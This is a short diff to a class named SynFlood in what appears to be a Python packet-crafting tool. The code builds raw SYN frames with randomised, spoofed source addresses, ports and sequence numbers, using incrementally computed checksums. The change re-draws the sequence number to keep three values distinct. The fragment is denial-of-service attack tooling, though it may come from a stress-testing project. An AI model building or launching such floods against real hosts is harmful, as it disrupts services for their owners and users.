@@ -110,6 +110,8 @@ class SynFlood:
             source = base + random.randrange(size)
             source_sum = (source >> 16) + (source & 0xFFFF)
             sport, isn = 1024 + bits(16) % 64512, bits(32)
+            while len({sport, isn >> 16, isn & 0xFFFF}) < 3:  # or it would come again as it was: see _renew
+                isn = bits(32)
             check = fold(tcp_sum + source_sum + sport + (isn >> 16) + (isn & 0xFFFF))
             frames.append(
                 link + ip[:10] + struct.pack(">HI", fold(ip_sum - base_sum + source_sum), source) + address
